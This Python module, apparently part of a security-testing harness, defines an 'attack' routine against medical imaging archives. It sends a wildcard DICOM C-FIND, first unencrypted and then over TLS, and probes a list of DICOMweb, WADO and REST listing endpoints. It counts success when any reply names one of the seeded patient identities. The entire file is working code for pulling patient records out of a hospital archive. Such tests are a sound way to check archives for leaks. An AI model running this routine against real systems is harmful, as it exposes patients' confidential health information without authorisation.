"""Ask the archive who its patients are, without showing anything: C-FIND and every listing URL we know."""

from __future__ import annotations

import http.client

from .dicom import EXPLICIT_LE, STUDY_ROOT_FIND, everybody, open_association
from .kit import Brief, GaveUp, Result, ask, load_seeds, plain, run
from .search import Search

_PATHS = (
    "/dicom-web/studies",
    "/dicom-web/studies?PatientName=*",
    "/dicom-web/instances?includefield=all",
    "/patients?expand",
    "/studies?expand",
    "/api/studies",
    "/wado?requestType=WADO",
)


def attack(brief: Brief) -> Result:
    """Succeeds when any answer names one of the identities."""
    search = Search(load_seeds(brief))
    notes = []
    for tls in (False, True):
        try:
            association = open_association(
                brief, brief["known_ae"], [(STUDY_ROOT_FIND, EXPLICIT_LE)], tls=tls
            )
            for answer in association.find(everybody()):
                search.feed(answer)
            association.release()
            notes.append(f"C-FIND {'over TLS' if tls else 'in clear'} answered")
        except (OSError, GaveUp) as failure:
            notes.append(f"C-FIND {'over TLS' if tls else 'in clear'}: {plain(failure)}")
        if search.found:
            break
    statuses = []
    for path in _PATHS:
        try:
            reply = ask(brief, "GET", path, headers={"Accept": "application/json, */*"})
            search.feed(reply.body)
            statuses.append(str(reply.status))
        except (OSError, http.client.HTTPException):
            statuses.append("closed")
    notes.append(f"HTTP {'/'.join(statuses)}")
    return Result(bool(search.found), f"{len(search.found)} identities told; {'; '.join(notes)}")


if __name__ == "__main__":
    run(attack)
